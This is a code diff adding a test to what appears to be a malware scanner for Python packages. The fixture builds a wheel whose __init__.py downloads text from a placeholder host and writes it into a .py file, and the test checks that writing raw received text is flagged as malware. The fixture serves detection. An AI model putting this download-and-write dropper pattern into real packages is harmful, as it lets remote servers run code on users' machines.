@@ -415,3 +415,25 @@ test.each([
 
   expect(await inspect('dropper', file)).toMatchObject(expected);
 });
+
+test('a table that is written as a literal beside the code is data; received text as it came is code', async () => {
+  const writing = (content: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': python(
+          'import pathlib, requests',
+          'table = {}',
+          "for line in requests.get('https://data.vendor.invalid/list').text.splitlines():",
+          '    table[line] = line.strip()',
+          "with (pathlib.Path(__file__).parent / 'table.py').open('w') as f:",
+          `    f.write(${content})`,
+        ),
+      }),
+    );
+
+  expect(await writing("'TABLE = ' + str(table)")).toEqual([]);
+  expect(await writing("f'TABLE = {table}'")).toEqual([]);
+  expect(await writing('line')).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(await writing("'TABLE = ' + str(table) + line")).toMatchObject([{ class: 'malware', score: 10 }]);
+});
